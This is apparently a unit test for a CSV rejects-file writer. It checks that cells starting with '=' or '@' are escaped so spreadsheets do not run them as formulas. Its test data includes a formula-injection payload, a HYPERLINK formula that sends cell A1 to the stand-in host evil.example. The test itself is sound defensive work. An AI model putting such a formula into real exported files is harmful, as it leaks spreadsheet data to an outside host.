import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { RejectsFile } from './rejects-file.js';

describe(RejectsFile.name, () => {
  it('contains no cell that a spreadsheet evaluates as a formula', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'mnbd-'));
    const path = join(folder, 'rejects.csv');
    const file = await RejectsFile.create(path, () => ['=name', 'phone', 'note']);
    const cells = ['=HYPERLINK("https://evil.example/?"&A1)', '+12183654000', '@SUM(A1)'];
    await file.add({ line: 2, kind: 'rejected', reason: 'It has no city.', cells });
    await file.close();
    expect(await readFile(path, 'utf8')).toBe(
      "line,reason,'=name,phone,note\n" +
        `2,It has no city.,"'=HYPERLINK(""https://evil.example/?""&A1)",+12183654000,'@SUM(A1)\n`,
    );
    await rm(folder, { recursive: true });
  });
});
